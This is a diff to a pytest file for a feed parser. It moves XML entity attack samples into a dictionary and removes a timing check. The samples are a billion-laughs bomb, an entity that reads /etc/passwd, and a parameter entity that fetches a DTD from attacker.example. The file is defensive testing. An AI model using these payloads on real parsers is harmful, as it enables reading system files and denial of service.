@@ -1,7 +1,6 @@
 from __future__ import annotations
 
 import datetime as dt
-import time
 from collections.abc import Callable
 from pathlib import Path
 
@@ -113,22 +112,22 @@ def laughs(levels: int) -> bytes:
     ).encode()
 
 
-@pytest.mark.parametrize(
-    "content",
-    [
-        laughs(10),
-        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-        b"<rss><channel><item><description>&x;</description></item></channel></rss>",
-        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss/>',
-        "\ufeff".encode("utf-16-le") + laughs(10).decode().encode("utf-16-le"),
-    ],
-    ids=["billion-laughs", "external-entity", "parameter-entity", "utf-16-laughs"],
-)
-def test_entity_tricks_are_refused_quickly(write_file: WriteFile, content: bytes) -> None:
-    started = time.perf_counter()
+# (How quickly they are refused is a benchmark: tests/perf/bench_limits.py.)
+ENTITY_TRICKS = {
+    "billion-laughs": laughs(10),
+    "external-entity": b'<?xml version="1.0"?>'
+    b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b"<rss><channel><item><description>&x;</description></item></channel></rss>",
+    "parameter-entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">'
+    b" %p;]><rss/>",
+    "utf-16-laughs": "\ufeff".encode("utf-16-le") + laughs(10).decode().encode("utf-16-le"),
+}
+
+
+@pytest.mark.parametrize("content", ENTITY_TRICKS.values(), ids=ENTITY_TRICKS.keys())
+def test_entity_tricks_are_refused(write_file: WriteFile, content: bytes) -> None:
     with pytest.raises(ImportFailure) as caught:
         parse_file(write_file(content, "bomb.xml"), "feed")
-    assert time.perf_counter() - started < 1
     assert str(caught.value) == "refused: the file declares XML entities, which feeds never need"
 
 
